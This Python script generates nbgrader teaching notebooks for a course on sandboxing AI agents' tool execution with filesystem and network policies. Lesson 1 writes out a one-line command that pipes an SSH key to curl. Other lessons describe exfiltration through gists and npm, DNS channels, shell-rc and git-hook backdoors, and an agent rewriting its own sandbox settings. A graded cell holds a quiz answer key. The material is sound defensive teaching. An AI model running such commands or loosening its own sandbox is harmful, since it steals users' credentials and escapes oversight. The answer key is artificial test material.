#!/usr/bin/env python3
"""Generate the teaching notebooks under lessons/0*-*/ from this one reviewable file.

Run from the repository root: ``python scripts/make_lesson_notebooks.py``.
The notebooks are written without outputs; each lesson folder is an nbgrader
assignment (the course's source directory is ``lessons/``). Narrative comes
first, cells stay small, and code only calls the ``grader`` package.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

ROOT = Path(__file__).resolve().parent.parent
LESSONS = ROOT / "lessons"

Cell = Any

SETUP = """\
from grader import load_policy
from grader.backends import default
from grader.board import describe_backend
from grader.widgets import PolicyEditor, Quiz, finish_lesson, probe_board, side_by_side

backend = default()  # Docker when an engine answers, otherwise the static analyzer
print(describe_backend(backend))"""

NAIVE = """\
# ❌ NAIVE SETUP: high exfiltration risk
naive_sandbox = {
    "filesystem": {"allowWrite": ["/home/user/"]},
    "network": {"allowedDomains": ["*.github.com"]},
}"""

SECURE = """\
# ✅ SECURE SETUP: independently scoped axes
secure_sandbox = {
    "filesystem": {"allowWrite": ["/app/workspace/build"]},
    "network": {"allowedDomains": ["registry.npmjs.org"]},
}"""


def md(text: str) -> Cell:
    return new_markdown_cell(text.strip("\n"))


def code(text: str) -> Cell:
    return new_code_cell(text.strip("\n"))


def graded(text: str, grade_id: str, *, solution: bool, points: int = 0) -> Cell:
    """An nbgrader cell: an answer cell (solution) or a locked autograded test cell."""
    cell = new_code_cell(text.strip("\n"))
    meta: dict[str, Any] = {"grade": not solution, "grade_id": grade_id, "locked": not solution,
                            "schema_version": 3, "solution": solution}
    if not solution:
        meta["points"] = points
    cell.metadata["nbgrader"] = meta
    return cell


def notebook(cells: list[Cell]) -> Any:
    nb = new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"display_name": "Python 3", "language": "python", "name": "python3"}
    nb.metadata["language_info"] = {"name": "python"}
    return nb


# --- 00 --------------------------------------------------------------------------------------

START = [
    md("""
# Sandbox Lab: sandboxing an AI agent's tool execution

**Start here (about 5 minutes).**

An AI agent that can run code or shell commands is a program that writes programs, and some of the
text it reads (a README, an issue, a web page, a package) may have been written by an attacker.
This course teaches you to put an **OS-enforced boundary** around that agent's tools: which files it
may read and write, and which hosts it may reach. You write the boundary as a small JSON *policy*,
then watch real attacks run against it: a compromised agent trying to steal an SSH key, plant a
backdoor, or smuggle data out through a domain you trusted.
"""),
    md("""
## The route

| # | lesson | time | what you do |
|---|---|---|---|
| 1 | [Why sandbox an agent's tools?](../01-why-sandbox/why-sandbox.ipynb) | ~10 min | see why a prompt is not a boundary; meet the two axes |
| 2 | [Naive vs secure](../02-naive-vs-secure/naive-vs-secure.ipynb) | ~25 min | run the naive and secure setups side by side, then fix what the secure one misses |
| 3 | [A container alone is not a sandbox](../03-container-alone/container-alone.ipynb) | ~15 min | watch a key leave a plain Docker container, then stop it |
| 4 | [A trusted domain is not a safe domain](../04-trusted-domains/trusted-domains.ipynb) | ~15 min | exfiltrate through an allowed `*.github.com`; learn the apex rule |
| 5 | [Check yourself](../05-check-yourself/check-yourself.ipynb) | ~10 min | recall questions and understanding checks |
| 10+ | graded tasks, in the folders `lessons/10-task-*` (one notebook each) | ~10–20 min each | write policies that pass the probes |

About 1 h 20 min for the lessons, plus the tasks.
"""),
    md("""
## What you need

* **Nothing but this notebook** to follow along: without Docker (for example on Binder), every
  outcome is *predicted* by a static analyzer that knows the rules of the policy language.
* **Docker, for the real thing:** with a Docker engine (`make lab` starts it where it can), every probe
  runs as a real attack inside real containers, and each verdict comes with the evidence that was seen
  outside the sandbox. No probe traffic ever leaves the machine: the "internet" the attacks reach is
  simulated in containers too.

The next cell tells you which of the two you have right now.
"""),
    code(SETUP),
    md("""
## How the lessons work

Each lesson states a threat and a goal in prose first, then lets you run it. You will meet four tools:

* a **probe board**: every attack and job probe, attacks first, red where an attack succeeded,
  green where legitimate work still runs, with a drawing of the *exfiltration paths*
  (which secret can reach which host over which channel);
* a **policy editor**: edit JSON, see errors with their JSON pointer as you type, press *Probe this policy*;
* **quizzes** that reveal the model answer and its reasoning once you have answered;
* a **progress board**, kept in `~/.sandbox-lab/progress.json` on your machine.

Here is your progress board; it fills in as you go.
"""),
    code('finish_lesson("l00-start-here")'),
]

# --- 01 --------------------------------------------------------------------------------------

WHY = [
    md("""
# 1. Why sandbox an agent's tools?

**About 10 minutes.** *Threat:* an agent that can execute code does whatever the code it writes does,
and the text steering it may be hostile. *Goal:* see why only the operating system can hold the line,
and name the two things it must restrict.
"""),
    md("""
## Overview

Sandboxing agent tool execution means **OS-level enforcement of filesystem and network isolation
around the commands an agent runs**. Two claims carry the whole course:

1. **Once an agent can execute code or shell commands, least-privilege *prompting* alone is not a
   security boundary.** A system prompt that says "never read `~/.ssh`" is a request. A prompt
   injection hidden in a README, a malicious dependency or a simply confused model can run
   `cat ~/.ssh/id_rsa | curl -d @- https://…` anyway. The kernel refusing to open the file, or a proxy
   refusing the host, holds whatever the model was told.
2. **Containers alone are often incomplete** without explicit network and filesystem restrictions
   (lesson 3 shows it).
"""),
    md("""
## Where this is used

* **Production agent platforms:** coding agents that run tests, linters and package managers on a
  developer's machine or in the cloud.
* **Sandboxed execution environments:** per-task runners that execute untrusted or generated code.
* **Code-interpreter features:** chat assistants that run Python to analyse your uploaded files.

In each, the agent's tools need *some* access (the project, one package registry) and must not get
the rest (your keys, your cloud credentials, the whole internet).
"""),
    md("""
## Why learn this

* To prevent a compromised agent from **exfiltrating sensitive data such as SSH keys**.
* To understand why **a broad domain allowlist can still be a data-exfiltration path**.
* To build **robust boundaries from filesystem *and* network isolation**, together.
"""),
    md("""
## What a compromised agent tries

The lab's probes play the compromised agent. *Attack* probes try to steal, persist and phone home;
*job* probes check that legitimate work (reading the source, writing a build, fetching a package)
still runs, because a sandbox that blocks the job gets switched off. Here is the catalogue:
"""),
    code("""
from IPython.display import HTML
from grader.board import catalogue_html

HTML(catalogue_html())"""),
    md("""
## A prompt is not a boundary: watch

Below, the agent runs in a plain container with your home directory mounted and ordinary networking
(lesson 3 takes it apart). Whatever its system prompt said, the probes do not read prompts: they run
code. Run the next two cells.
"""),
    code(SETUP),
    code('probe_board(None, backend, only=["read-ssh-key", "write-shell-rc", "net-attacker-domain", "exfil-secret"])'),
    md("""
## The two axes

Every attack above needs one of two things from the sandbox:

* **Filesystem:** *read* access to a secret (the key), or *write* access to something that runs
  later outside the sandbox (`~/.bashrc`, a git hook, the sandbox's own settings).
* **Network:** a **channel out**: a direct connection, DNS queries to the attacker's nameserver, or
  any reachable host that accepts uploads.

Exfiltration needs a readable secret **and** a channel out. A sandbox scopes both axes, each on its own.
"""),
    code('Quiz("recall-prompting-boundary")'),
    code('finish_lesson("l01-why-sandbox")'),
]

# --- 02 --------------------------------------------------------------------------------------

NAIVE_SECURE = [
    md("""
# 2. Naive vs secure: scope each axis independently

**About 25 minutes.** *Threat:* an agent building an npm project is compromised. *Goal:* compare a
naive sandbox with a secure one, probe by probe, then close what the "secure" one still leaves open.
"""),
    md("""
## The two setups

Both are written in the settings format of a sandbox runtime: `filesystem.allowWrite` lists where the
agent may write, `network.allowedDomains` lists the hosts its egress proxy lets through (empty means
no network at all). Reading is allowed everywhere unless a rule says otherwise.

The naive setup lets the agent write anywhere in the home directory and reach any GitHub subdomain.
The secure one lets it write only the build directory and reach only the package registry.
"""),
    code(SETUP),
    code(NAIVE),
    code(SECURE),
    md("""
## Run both against every probe

Each column is one sandbox. Red cells are attacks that succeeded; green cells are jobs that work.
Hover a cell for its explanation; open a sandbox's board for the evidence and its exfiltration picture.
"""),
    code('side_by_side({"naive": naive_sandbox, "secure": secure_sandbox}, backend)'),
    md("""
## What the naive setup gets wrong, axis by axis

* **Filesystem:** `allowWrite: ["/home/user/"]` lets the agent append a backdoor to `~/.bashrc`,
  which runs in your next shell *outside* the sandbox with full network, and **rewrite its own
  sandbox settings** (`~/.srt-settings.json`) so the next session allows everything.
* **Network:** `*.github.com` matches every GitHub subdomain, including `gist.github.com` and
  `api.github.com`, which accept uploads from any account: the agent can **post your secrets to a
  public gist**. That is an exfiltration path through a "trusted" domain.
"""),
    code('probe_board(naive_sandbox, backend, only=["write-shell-rc", "write-sandbox-settings", "exfil-via-allowed-domain", "exfil-secret"])'),
    md("""
## Each axis must be scoped on its own

Fixing one axis does not fix the other. Scope only the filesystem, and the gists stay open; scope
only the network, and the backdoor still lands in `~/.bashrc`, where it runs later with full network.
"""),
    code("""
fs_only = {"filesystem": {"allowWrite": ["/app/workspace/build"]}, "network": {"allowedDomains": ["*.github.com"]}}
net_only = {"filesystem": {"allowWrite": ["/home/user/"]}, "network": {"allowedDomains": ["registry.npmjs.org"]}}
side_by_side({"filesystem scoped only": fs_only, "network scoped only": net_only}, backend)"""),
    md("""
## The honest next step: "secure" still leaks

Look again at the secure column. Two things remain:

1. **Secrets are still readable.** `allowWrite` limits *writes*; with no read rule, the agent can read
   `~/.ssh/id_rsa`, `~/.aws/credentials`, `/etc/secrets` and `/project/.env`.
2. **`registry.npmjs.org` accepts uploads.** Anyone with an npm account can `npm publish` a package,
   and a package can carry your key. The registry is a channel out, not only a download site.

A readable secret plus a channel out is an exfiltration path:
"""),
    code('probe_board(secure_sandbox, backend, only=["read-ssh-key", "read-etc-secrets", "read-dotenv", "exfil-via-allowed-domain", "exfil-secret", "job-write-build", "job-fetch-npm"])'),
    md("""
## Fix it: hide the secrets with `denyRead`

The build needs `/app/workspace` and the registry; it needs nothing under your home directory, in
`/etc/secrets`, or in `/project/.env` (another project's API token). `denyRead` hides those paths (the most specific rule
wins, and a denied path is hidden for writing too).
"""),
    code("""
secure_fixed = {
    "filesystem": {
        "denyRead": ["/home/user", "/etc/secrets", "/project/.env"],
        "allowWrite": ["/app/workspace/build"],
    },
    "network": {"allowedDomains": ["registry.npmjs.org"]},
}
probe_board(secure_fixed, backend)"""),
    md("""
`exfil-secret` is now blocked, and the build still works. (`read-other-project` stays red: the
probes treat `/app/workspace` as "another project", but here it is the very project being built.)
Be honest about what remains:
`exfil-via-allowed-domain` still succeeds, because the registry still accepts `npm publish`. There
is no secret left to send, but the project itself could be published. A host-name allowlist cannot
allow downloads and refuse uploads to the same host; closing that needs a read-only registry mirror.
An even tighter read rule is `allowRead: ["/app/workspace"]`: everything not listed is unreadable.
"""),
    md("""
## What the real sandbox-runtime does differently

These verdicts follow Sandbox Lab's rules. The tool whose settings format you are writing,
sandbox-runtime (`srt`, version 0.0.78 on Linux), was run on the same attacks and differs in places:

* It blocks writes to `~/.bashrc`-like files and `.git/hooks` by itself, but **only in the directory it
  starts in and up to 3 levels below**, and it does **not** protect its own `~/.srt-settings.json`.
  Don't rely on either: keep `~` out of `allowWrite`, or `denyWrite` each one.
* A path in both `allowRead` and `denyRead` is **readable** there; so is one in both `allowWrite` and
  `denyRead`. An `allowWrite` inside a `denyWrite` stays **read-only**. Name each path in one list.
* Rules apply only to paths that **exist when srt starts**: granting a file the job creates later grants nothing.
* srt reads everything by default: translate with `sandbox-lab export --to srt`, which makes `allowRead` mean "only these".

`sandbox-lab check my_policy.json` flags the first three where a policy relies on them (lines tagged `[srt 0.0.78]`);
[docs/srt-differences.md](../../docs/srt-differences.md) has the measurements.
"""),
    md("""
## Your turn

The editor starts from the naive setup. Change it until no attack succeeds while
`job-write-build` and `job-fetch-npm` still work, then press **Probe this policy**. Errors appear as
you type, each with its JSON pointer (for example `/network/allowedDomains/0`).
"""),
    code("""
editor = PolicyEditor(naive_sandbox, backend=backend)
editor"""),
    code('Quiz("recall-two-axes")'),
    code('finish_lesson("l02-naive-vs-secure")'),
]

# --- 03 --------------------------------------------------------------------------------------

CONTAINER = [
    md("""
# 3. Common mistake: "a container alone is sandboxing"

**About 15 minutes.** *Threat:* the agent's code-execution tool runs in an ordinary Docker container,
and the team calls that a sandbox. *Goal:* watch the SSH key leave that container, understand why,
then scope both axes and watch it stop.
"""),
    md("""
## The plain container

This is what many setups do: `docker run` with the home directory and the projects mounted
read-write (so the agent can work on them) and Docker's **default bridge networking**. The lab calls
it the *baseline*; here is exactly what it mounts and which network it gets:
"""),
    code(SETUP),
    code("""
from grader.plan import build_plan, mount_table

baseline = build_plan(None)  # None: no policy, the plain container
print("network:", baseline.network)
print("\\n".join(mount_table(baseline)))"""),
    md("""
## Default bridge networking, in one paragraph

Docker attaches a container to the `docker0` bridge, gives it a private address, and the host
**NATs its traffic to the outside world**. The container can open outbound TCP connections to any
address, resolve any name through the host's DNS, and reach services on the host through the
gateway address. Nothing in that path asks *which* host or *what* data. (In this lab the "outside
world" is a simulated internet in containers: no probe traffic leaves the machine.)
"""),
    md("""
## Watch the key leave

With Docker, each verdict below carries the evidence seen outside the sandbox, for example the
key's per-run canary arriving at `attacker.example`.
"""),
    code('probe_board(None, backend, only=["read-ssh-key", "net-direct-ip", "net-dns-exfil", "net-attacker-domain", "net-host-gateway", "exfil-secret"])'),
    md("""
## Without filesystem isolation, the agent can backdoor what runs later

Suppose you close the network but leave the mounts writable. The agent cannot phone home *now*, but
it can write files that run later **outside** the sandbox, with your full network access:
`~/.bashrc` runs in your next shell, a git hook at your next commit, and a rewritten sandbox
settings file loosens the next session. Compare three sandboxes:
"""),
    code("""
network_only = {"filesystem": {"allowWrite": ["/home/user", "/project"]}, "network": {"allowedDomains": []}}
both_axes = {
    "filesystem": {"allowRead": ["/project/src", "/project/out"], "allowWrite": ["/project/out"]},
    "network": {"allowedDomains": []},
}
side_by_side({"plain container": None, "network only": network_only, "both axes": both_axes}, backend)"""),
    md("""
## What changed

* **Plain container:** every channel is open and the key leaves.
* **Network only:** the key cannot leave now, but `write-shell-rc`, `write-git-hook` and
  `write-sandbox-settings` succeed: the backdoor runs later, outside, with network.
* **Both axes:** reads are limited to the source and the output directory, writes to the output, and
  there is no network. Every attack is blocked and the job still reads its source and writes its result.

A container isolates *processes*. A sandbox also decides what those processes may read, write and reach.
"""),
    code('Quiz("recall-default-network")'),
    code('finish_lesson("l03-container-alone")'),
]

# --- 04 --------------------------------------------------------------------------------------

TRUSTED = [
    md("""
# 4. Common mistake: "a trusted domain allowlist is safe"

**About 15 minutes.** *Threat:* the agent may reach GitHub, "because GitHub is trustworthy".
*Goal:* see why a reputable destination is not a safe one, and how wildcards and the apex rule behave.
"""),
    md("""
## What the proxy can see

A sandboxed agent reaches the network only through an egress proxy. For HTTPS, the client sends
`CONNECT gist.github.com:443`; the proxy checks **the host name** against `allowedDomains` and
`deniedDomains`, then relays **encrypted bytes** it cannot read. It cannot tell `git clone` from a
`POST /gists` carrying your SSH key. So the real question about an allowed host is: *can anyone store
data there?* GitHub can: repositories, gists, issues, for any account, including the attacker's.
"""),
    code(SETUP),
    code("""
from IPython.display import HTML
from grader.board import reach_html

trusting = {"filesystem": {"allowWrite": ["/project/out"]}, "network": {"allowedDomains": ["*.github.com"]}}
hosts = ["github.com", "gist.github.com", "api.github.com", "raw.githubusercontent.com", "attacker.example"]
HTML(reach_html(load_policy(trusting), hosts))"""),
    md("""
## The apex rule

`*.github.com` matches **strict subdomains only**: `gist.github.com` and `api.github.com` yes,
`github.com` itself **no**. People expect the opposite in both directions: the wildcard misses the host
they meant and covers upload hosts they never thought of. If the job needs `github.com`, list it.

## Gist exfiltration through an allowed domain

The attacker never contacts their own server (it is refused above). They post the key to a public
gist on an allowed host, and read it from there:
"""),
    code('probe_board(trusting, backend, only=["read-ssh-key", "net-attacker-domain", "exfil-via-allowed-domain", "exfil-secret"])'),
    md("""
## An exact `github.com` is not safe either

Dropping the wildcard shrinks the list but keeps an upload host: `git push` to a repository the
attacker owns works on `github.com` itself.
"""),
    code("""
exact = {"filesystem": {"allowWrite": ["/project/out"]}, "network": {"allowedDomains": ["github.com"]}}
HTML(reach_html(load_policy(exact), hosts))"""),
    md("""
## `deniedDomains`: deny wins, but a deny list is a patch

A host matched by `deniedDomains` is refused even if an allowed entry matches it. Denying the known
upload hosts closes them, but the next upload-capable subdomain is open by default. Prefer listing
the exact hosts the job needs, preferably download-only ones, and keep secrets unreadable.
"""),
    code("""
patched = {
    "filesystem": {"allowWrite": ["/project/out"]},
    "network": {"allowedDomains": ["*.github.com"], "deniedDomains": ["gist.github.com", "api.github.com"]},
}
HTML(reach_html(load_policy(patched), hosts))"""),
    code("""
download_only = {
    "filesystem": {"denyRead": ["/home/user", "/etc/secrets", "/project/.env"], "allowWrite": ["/project/out"]},
    "network": {"allowedDomains": ["raw.githubusercontent.com"]},
}
side_by_side({"*.github.com": trusting, "patched with deniedDomains": patched, "download-only host, secrets hidden": download_only}, backend)"""),
    code('Quiz("recall-github-allowlist")'),
    code('Quiz("recall-wildcard-apex")'),
    code('finish_lesson("l04-trusted-domains")'),
]

# --- 05 --------------------------------------------------------------------------------------

CHECK = [
    md("""
# 5. Check yourself

**About 10 minutes.** Answer first; the model answer and its reasoning appear after you check.
Correct answers are recorded on your progress board.
"""),
    code("from grader.widgets import ProgressBoard, Quiz, finish_lesson"),
    md("## Recall"),
    code('Quiz("recall-default-network")'),
    code('Quiz("recall-github-allowlist")'),
    code('Quiz("recall-two-axes")'),
    md("""
## Understanding checks

Each describes a sandbox someone built. Decide what is wrong before you look.
"""),
    code('Quiz("check-etc-secrets-github")'),
    code('Quiz("check-standard-docker")'),
    md("""
## The same checks, graded

Write the letter of your answer to each understanding check into the variables below
(`answer_etc_secrets` for the `/etc/secrets` + `github.com` sandbox, `answer_standard_docker` for
the standard Docker container). The cell after it checks them with `grader.quiz.check_answer`.
"""),
    graded("""
# answer_etc_secrets = "?"
# answer_standard_docker = "?"
### BEGIN SOLUTION
answer_etc_secrets = "c"
answer_standard_docker = "b"
### END SOLUTION""", "l05-answers", solution=True),
    graded("""
from grader.quiz import check_answer

correct, feedback = check_answer("check-etc-secrets-github", answer_etc_secrets)
assert correct, feedback""", "l05-check-etc-secrets-github", solution=False, points=1),
    graded("""
correct, feedback = check_answer("check-standard-docker", answer_standard_docker)
assert correct, feedback""", "l05-check-standard-docker", solution=False, points=1),
    md("""
## Now practise: the graded tasks

Each task is its own graded notebook in a folder `lessons/10-task-*` (and onwards). Start with
**Scope a Secure Sandbox** (`scope-secure-sandbox`): write a policy that only allows reading from
`/project/src`, writing to `/project/out`, and strictly prevents all outbound network access by
emptying the allowed domains. Your progress board lists every task:
"""),
    code('finish_lesson("l05-check-yourself")'),
]

NOTEBOOKS = {
    "00-start-here/start-here.ipynb": START,
    "01-why-sandbox/why-sandbox.ipynb": WHY,
    "02-naive-vs-secure/naive-vs-secure.ipynb": NAIVE_SECURE,
    "03-container-alone/container-alone.ipynb": CONTAINER,
    "04-trusted-domains/trusted-domains.ipynb": TRUSTED,
    "05-check-yourself/check-yourself.ipynb": CHECK,
}


def main(argv: list[str]) -> int:
    check = "--check" in argv  # exit 1 if a committed notebook differs from what this script makes
    stale = []
    for rel, cells in NOTEBOOKS.items():
        for i, cell in enumerate(cells):
            cell["id"] = f"{Path(rel).stem}-{i:02d}"  # stable ids: regenerating gives no spurious diff
        nb = notebook(cells)
        nbformat.validate(nb)
        text = nbformat.writes(nb) + "\n"
        path = LESSONS / rel
        if check:
            if not path.exists() or path.read_text(encoding="utf-8") != text:
                stale.append(rel)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        print(f"wrote {path.relative_to(ROOT)}")
    if stale:
        print("out of date (run scripts/make_lesson_notebooks.py):", ", ".join(stale), file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
